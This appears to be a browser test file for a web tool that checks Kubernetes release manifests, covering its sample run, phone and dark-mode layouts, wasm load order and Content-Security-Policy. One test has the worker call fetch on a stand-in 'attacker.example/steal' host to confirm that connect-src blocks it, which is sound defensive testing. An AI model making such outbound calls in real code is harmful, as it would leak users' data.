// The built-in sample: every rule, its three mistakes, the steps, the
// review and its copy button, on a desktop and a phone, light and dark.

import assert from "node:assert/strict";
import { join } from "node:path";
import { test } from "node:test";

import { RULES, brokenEdges, checkerReady, holdChecker, openPage, shots, statuses, useSite, withStatus } from "../lib/harness.mjs";

const site = useSite();

async function trySample(page) {
  await page.getByRole("button", { name: "Try a sample" }).click();
  return statuses(page);
}

test("the sample, on a desktop then a phone", async (t) => {
  const { context, page, problems } = await openPage(t, site);
  await page.goto(site.base);
  const sample = await trySample(page);
  await t.test("every rule has a card", () => assert.equal(Object.keys(sample).length, RULES));
  await t.test("the three mistakes fail, and nothing else", () =>
    assert.deepEqual(withStatus(sample, "fail"), ["cpu-request-range", "pvc-removed", "secret-matches-values"]));
  const order = await page.$$eval("[data-rule-id]", (cards) => cards.map((c) => c.dataset.status));
  await t.test("failures come first", () => assert.ok(order.indexOf("pass") > order.lastIndexOf("fail"), order.join(" ")));
  await t.test("six cluster steps", async () => assert.equal(await page.locator(".step").count(), 6));
  const review = await page.locator("#review-markdown").inputValue();
  await t.test("the review is in the textarea", () => assert.match(review, /cpu-request-range/));
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.getByRole("button", { name: "Copy the review" }).click();
  await page.getByText("Copied the review to the clipboard.").waitFor();
  await t.test("the copy button copies the review", async () =>
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), review));
  await t.test("the picture shows the one broken link", async () => assert.equal(await brokenEdges(page), 1));
  await page.screenshot({ path: join(shots, "sample-1280.png") });
  await page.setViewportSize({ width: 360, height: 800 });
  await page.screenshot({ path: join(shots, "sample-360.png") });
  const wide = await page.evaluate(() => document.documentElement.scrollWidth);
  await t.test("no sideways scrolling at 360 px", () => assert.ok(wide <= 360, `the page is ${wide} px wide`));
  await t.test("a phone gets the one-column picture", async () => {
    assert.equal(await page.locator("svg.release-graph:visible").getAttribute("data-layout"), "narrow");
    assert.equal(await brokenEdges(page), 1);
  });
  await page.locator('[data-rule-id="cpu-request-range"]').scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(shots, "sample-360-card.png") });
  await page.locator("#steps-heading").scrollIntoViewIfNeeded();
  await page.screenshot({ path: join(shots, "sample-360-steps.png") });
  await page.locator("#step-start-minikube").check();
  await page.reload();
  await trySample(page);
  await t.test("a ticked step is remembered", async () => assert.ok(await page.locator("#step-start-minikube").isChecked()));
  await t.test("no console errors or CSP refusals", () => assert.deepEqual(problems, []));
});

test("the sample in dark mode", async (t) => {
  const { page, problems } = await openPage(t, site, { colorScheme: "dark" });
  await page.goto(site.base);
  await trySample(page);
  await page.screenshot({ path: join(shots, "sample-1280-dark.png") });
  await page.locator("section.graph").screenshot({ path: join(shots, "sample-graph-1280-dark.png") });
  await page.setViewportSize({ width: 360, height: 800 });
  await page.reload();
  await trySample(page);
  await t.test("the result takes the focus", async () =>
    assert.equal(await page.evaluate(() => document.activeElement?.id), "summary-heading"));
  await page.screenshot({ path: join(shots, "sample-360-results-dark.png") });
  await t.test("no console errors", () => assert.deepEqual(problems, []));
});

// web/boot.js starts fetching the checker's files with the page (after the
// page's own wasm, which the preload link asks for first); the worker then
// asks for the same URLs, which a cacheable site answers from the cache.
test("the checker is fetched with the page, after the page's own wasm", async (t) => {
  const { page, problems } = await openPage(t, site);
  const urls = [];
  page.on("request", (r) => urls.push(new URL(r.url())));
  await page.goto(site.base);
  await checkerReady(page);
  const requested = urls.map((u) => u.pathname.split("/").pop());
  const first = (prefix, suffix) => requested.findIndex((name) => name.startsWith(prefix) && name.endsWith(suffix));
  const html = await page.content();
  await t.test("index.html names no checker file", () => assert.doesNotMatch(html, /m13-checker/));
  await t.test("the page's wasm comes first, then the checker", () => {
    const [app, checker] = [first("m13-app", ".wasm"), first("m13-checker", ".wasm")];
    assert.ok(app >= 0 && checker > app, requested.join(" "));
  });
  await t.test("the checker asked for is the page's own build", () => {
    const build = urls.find((u) => /m13-app-\w+_bg\.wasm$/.test(u.pathname)).pathname.match(/m13-app-(\w+)_bg/)[1];
    const checker = urls.filter((u) => u.pathname.includes("m13-checker"));
    // Each of the two files by web/boot.js, then by the worker.
    assert.equal(checker.length, 4, checker.join(" "));
    assert.deepEqual(checker.map((u) => u.pathname.split("/").pop()).sort(), ["m13-checker.js", "m13-checker.js", "m13-checker_bg.wasm", "m13-checker_bg.wasm"]);
    for (const url of checker) assert.equal(url.searchParams.get("build"), build, String(url));
  });
  await t.test("no console errors", () => assert.deepEqual(problems, []));
});

test("the checker keeps the page's Content-Security-Policy", async (t) => {
  const { page } = await openPage(t, site);
  const started = page.waitForEvent("worker");
  await page.goto(site.base);
  const worker = await started;
  await checkerReady(page);
  await t.test("it is started from a blob: script", () => assert.match(worker.url(), /^blob:/));
  // Inside the real checker: a host the policy does not list is refused by
  // the policy itself, before any network (where the harness refuses too).
  const outcome = await worker.evaluate(
    () =>
      new Promise((resolve) => {
        self.addEventListener("securitypolicyviolation", (e) => resolve(`blocked by ${e.effectiveDirective}`), { once: true });
        fetch("https://attacker.example/steal").then(
          () => resolve("fetched"),
          () => setTimeout(() => resolve("failed without a violation"), 500),
        );
      }),
  );
  await t.test("a host off the list is refused by connect-src", () => assert.equal(outcome, "blocked by connect-src"));
});

test("a check asked for before the checker arrives waits for it, and says so", async (t) => {
  const { context, page, problems } = await openPage(t, site, { viewport: { width: 360, height: 800 } });
  const release = await holdChecker(context);
  await page.goto(site.base);
  await page.getByRole("button", { name: "Try a sample" }).click();
  const waiting = await page.locator(".progress").innerText();
  await t.test("the progress says the checker is loading", () => assert.match(waiting, /Loading the checker/));
  release();
  const sample = await statuses(page);
  await t.test("then the sample is checked", () => assert.equal(Object.keys(sample).length, RULES));
  await t.test("no console errors", () => assert.deepEqual(problems, []));
});
